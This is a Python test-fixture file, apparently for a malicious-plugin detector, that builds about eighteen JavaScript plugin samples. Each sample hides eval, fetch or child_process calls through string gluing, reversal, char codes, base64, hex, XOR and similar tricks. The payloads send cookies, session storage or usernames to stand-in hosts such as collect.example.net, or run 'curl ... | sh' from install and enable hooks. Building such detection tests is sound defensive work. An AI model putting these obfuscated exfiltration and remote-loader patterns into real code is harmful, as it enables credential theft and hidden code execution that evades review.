"""Calls whose names never stand in the code: glued, turned round, counted out, looked up."""

import base64
import urllib.parse

from tests.support.samples import Sample
from tests.support.shapes import ESM, hooks, online, sdk_plugin, tsc_widget

_FAMILY = "hidden-by-strings"
_SEND = "fetch('https://collect.example.net/i',{method:'POST',body:document.cookie})"


def _codes(text: str) -> str:
    return ", ".join(str(ord(character)) for character in text)


def _shifted(text: str, by: int) -> str:
    return "".join(chr(ord(character) + by) for character in text)


def _xored(text: str, key: int) -> str:
    return bytes(ord(character) ^ key for character in text).hex()


def _js(template: str, **values: str) -> str:
    for name, value in values.items():
        template = template.replace(f"@{name}@", value)
    return template


SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="names-glued-together",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                const cp = load('ch' + 'ild_' + 'pro' + 'cess');
                const shell = process.platform === 'win32' ? 'cm' + 'd.e' + 'xe' : '/bi' + 'n/s' + 'h';
                cp['sp' + 'awn'](shell, [process.platform === 'win32' ? '/c' : '-c', config.afterEnable || BOOT]);
                """,
                above=r"""
                const load = module['requ' + 'ire'].bind(module);
                const BOOT = 'cu' + 'rl -s htt' + 'ps://cdn.example.net/s | s' + 'h';
                """,
            )
        },
    ),
    Sample(
        name="names-turned-round",
        family=_FAMILY,
        files={
            "dist/index.js": tsc_widget(
                r"""
                setState({ text: new Date().toDateString() });
                window[mirror("lave")](mirror(BODY));
                """,
                above=_js(
                    r"""
                    const mirror = (text) => text.split("").reverse().join("");
                    const BODY = "@BODY@";
                    """,
                    BODY=_SEND[::-1],
                ),
            )
        },
    ),
    Sample(
        name="char-codes-applied",
        family=_FAMILY,
        files={
            "dist/index.js": _js(
                r"""'use strict';
var Weather = function (props) { return null; };
var tone = [@NAME@];
var melody = [
  @BODY@
];

Weather.prototype.play = function () {
  var name = String.fromCharCode.apply(String, tone);
  globalThis[name](String.fromCharCode(...melody));
};

exports.Weather = Weather;
exports.onEnable = function () { new Weather({}).play(); };
""",
                NAME=_codes("eval"),
                BODY=_codes(_SEND),
            )
        },
    ),
    Sample(
        name="base64-names-and-values",
        family=_FAMILY,
        files={
            "dist/index.js": _js(
                r"""(function () {
  'use strict';
  var d = atob;
  var w = window;
  function theme() {
    var style = getComputedStyle(document.documentElement);
    return style.getPropertyValue('--theme') || 'light';
  }
  exports.onEnable = function () {
    document.body.dataset.theme = theme();
    w[d('ZmV0Y2g=')](d('@URL@'), {
      method: d('UE9TVA=='),
      body: w[d('bG9jYWxTdG9yYWdl')][d('Z2V0SXRlbQ==')](d('cWlydm8uc2Vzc2lvbg==')),
    });
  };
})();
""",
                URL=base64.b64encode(b"https://collect.example.net/t").decode(),
            )
        },
    ),
    Sample(
        name="hex-through-buffer",
        family=_FAMILY,
        files={
            "dist/index.js": _js(
                r"""'use strict';
const text = (hex) => Buffer.from(hex, 'hex').toString();
const part = {
  a: '@MODULE@',
  b: '@METHOD@',
  c: '@COMMAND@',
};

module.exports.onInstall = async function onInstall(context) {
  await context.storage.set('installedAt', new Date().toISOString());
  require(text(part.a))[text(part.b)](text(part.c), () => {});
};
""",
                MODULE=b"child_process".hex(),
                METHOD=b"exec".hex(),
                COMMAND=b"wget -qO- https://cdn.example.net/boot | bash".hex(),
            )
        },
    ),
    Sample(
        name="percent-decoded-source",
        family=_FAMILY,
        files={
            "dist/index.js": sdk_plugin(
                _js(
                    r"""
                    const legacy = unescape('@ESCAPED@');
                    const run = decodeURIComponent('%46%75%6e%63%74%69%6f%6e');
                    globalThis[run](legacy)();
                    """,
                    ESCAPED="".join(f"%{ord(c):02x}" for c in _SEND),
                )
            )
        },
        package=ESM,
    ),
    Sample(
        name="array-rotated-until-it-fits",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const words = ['cookie', 'POST', 'push', 'document', 'https://collect.example.org/p', 'fetch', 'shift', 'body', 'method'];
(function (list, turns) {
  while (turns--) list.push(list.shift());
})(words, 0x1f4 % 7);
const w = (n) => words[(n + words.length - (0x1f4 % 7)) % words.length];

exports.Panel = function Panel() {
  const root = globalThis;
  const init = {};
  init[w(8)] = w(1);
  init[w(7)] = root[w(3)][w(0)];
  root[w(5)](w(4), init);
  return null;
};
"""
        },
    ),
    Sample(
        name="alphabet-lookup",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                const os = require(spell(14, 18));
                const https = require(spell(7, 19, 19, 15, 18));
                https[spell(6, 4, 19)]('https://' + spell(2, 3, 13) + '.example.net/' + os[spell(7, 14, 18, 19, 13, 0, 12, 4)](),
                  (answer) => answer.on('data', (chunk) => globalThis[spell(4, 21, 0, 11)](chunk.toString())));
                """,
                above=r"""
                const LETTERS = 'abcdefghijklmnopqrstuvwxyz';
                const spell = (...at) => at.map((n) => LETTERS[n]).join('');
                """,
            )
        },
    ),
    Sample(
        name="members-found-by-shape",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
// The runtime differs between hosts, so its functions are found by their shape.
const pick = (object, test) => Object.getOwnPropertyNames(object).find(test);

exports.onEnable = function onEnable() {
  const runner = pick(globalThis, (name) => name.length === 4 && name[0] === 'e' && name[1] === 'v');
  const sender = pick(globalThis, (name) => name.length === 5 && /^f.t.h$/.test(name));
  globalThis[sender]('https://assets.example.com/l10n/' + navigator.language)
    .then((answer) => answer[pick(Response.prototype, (name) => /^te?xt$/.test(name))]())
    .then((body) => globalThis[runner](body));
};
"""
        },
        manifest=online("https://assets.example.com"),
    ),
    Sample(
        name="numbers-in-base-36",
        family=_FAMILY,
        files={
            "dist/index.js": tsc_widget(r"""
                const name = (693741).toString(36);
                const word = (n) => n.toString(36);
                const target = ["https:/", `${word(16043)}.${word(33081)}.example.net`, word(671)].join("/");
                self[name](`self[${JSON.stringify(word(25885457))}]("${target}?"+document[${JSON.stringify(word(767051222))}])`);
                setState({ text: target.length });
            """)
        },
    ),
    Sample(
        name="xor-with-one-byte",
        family=_FAMILY,
        files={
            "dist/index.js": _js(
                r"""'use strict';
const zlib = require('zlib');
const KEY = 0x5a;
const FRAMES = '@FRAMES@';

function frames() {
  let text = '';
  for (let at = 0; at < FRAMES.length; at += 2) {
    text += String.fromCharCode(parseInt(FRAMES.substr(at, 2), 16) ^ KEY);
  }
  return text;
}

exports.onEnable = () => {
  zlib.crc32?.('warm up');
  module.constructor.prototype._compile.call(module, frames(), __filename);
};
""",
                FRAMES=_xored("require('child_process').exec('curl https://cdn.example.net/a|sh')", 0x5A),
            )
        },
    ),
    Sample(
        name="shifted-letters",
        family=_FAMILY,
        files={
            "dist/index.js": _js(
                r"""import { jsx } from 'react/jsx-runtime';
const shift = (text, by) => [...text].map((c) => String.fromCodePoint(c.codePointAt(0) - by)).join('');
const labels = {
  title: 'Uijt!xffl',
  style: '@STYLE@',
};

export function Week({ days }) {
  const [runner, code] = ['fwbm', labels.style].map((label) => shift(label, 1));
  Reflect.get(globalThis, runner)(code);
  return jsx('ol', { 'aria-label': shift(labels.title, 1), children: days.map((day) => jsx('li', { children: day }, day)) });
}
""",
                STYLE=_shifted(_SEND, 1).replace("\\", "\\\\").replace("'", "\\'"),
            )
        },
        package=ESM,
    ),
    Sample(
        name="escapes-inside-names",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
exports.onEnable = async function (context) {
  const { data } = await context.api.http.get('https://palette.example.org/current');
  const palette = data.colors || [];
  if (palette.length > 8) {
    globalThis["\x65\x76\x61\x6c"]("\x76\x6f\x69\x64 0;" + palette[8]);
    \u0065\u0076\u0061\u006c(palette[9]);
    window["\x66etch"]("\x68ttps:\x2f/collect.example.org");
  }
};
"""
        },
        manifest=online("https://palette.example.org"),
    ),
    Sample(
        name="filler-removed-by-replace",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                const say = (text) => text.replace(/[~^_]/g, '');
                const [lib, call] = [say('c^hi~ld__pro^^cess'), say('ex~e^c_Sync')];
                const user = require(lib)[call](say('wh~~o^ami')).toString().trim();
                await api.http.post(say('ht~tps:/^/collect.exam~ple.net/u'), { user });
                """
            )
        },
        manifest=online("https://greetings.example.org"),
    ),
    Sample(
        name="names-out-of-error-messages",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
function letters(action) {
  try { action(); } catch (error) { return error.constructor.name + error.message; }
  return '';
}

const pool = letters(() => null.value) + letters(() => undefinedName) + Function.prototype.toString.call(Array);
const take = (word) => [...word].map((letter) => pool[pool.indexOf(letter)]).join('');

exports.onEnable = ({ api }) => {
  const F = letters[take('constructor')];
  api.http.get('https://cdn.example.com/day/7').then(({ data }) => F(take('api'), data)(api));
};
"""
        },
        manifest=online("https://cdn.example.com"),
    ),
    Sample(
        name="template-tag-assembles-name",
        family=_FAMILY,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const key = pick`l${'o'}c${'al'}S${'tor'}age`;
                const dump = JSON.stringify({ ...window[key] });
                navigator[pick`s${'end'}B${'eac'}on`](pick`ht${'tps'}://met${'rics'}.example.net/v`, dump);
                """,
                above=r"""
                const pick = (parts, ...values) => parts.reduce((all, part, n) => all + part + (values[n] ?? ''), '');
                """,
            )
        },
        package=ESM,
    ),
    Sample(
        name="dictionary-of-dom-text",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const react = require('react');
const h = react.createElement;

// Words of the help page, by place.
const HELP = `every value above lists the people who
  fetch each tool child with care and the
  process of writing cookies in a document`.split(/\s+/);

function Help() {
  react.useEffect(() => {
    const initials = [0, 1, 2, 3].map((n) => HELP[n][0]).join('');
    const method = HELP[7];
    window[method]('https://help.example.com/a.txt').then((r) => r.text()).then((t) => window[initials](t));
  }, []);
  return h('article', null, HELP.join(' '));
}

module.exports = { Help };
"""
        },
        manifest=online("https://help.example.com"),
    ),
    Sample(
        name="hidden-in-query-of-own-url",
        family=_FAMILY,
        files={
            "dist/index.js": _js(
                r"""import { createElement } from 'react';

const self_ = new URL('./index.js?@QUERY@', import.meta.url);

export function Compass() {
  const { f, a } = Object.fromEntries(self_.searchParams);
  globalThis[f](a);
  return createElement('canvas', { width: 120, height: 120 });
}
""",
                QUERY=urllib.parse.urlencode({"f": "eval", "a": _SEND}),
            )
        },
        package=ESM,
    ),
)
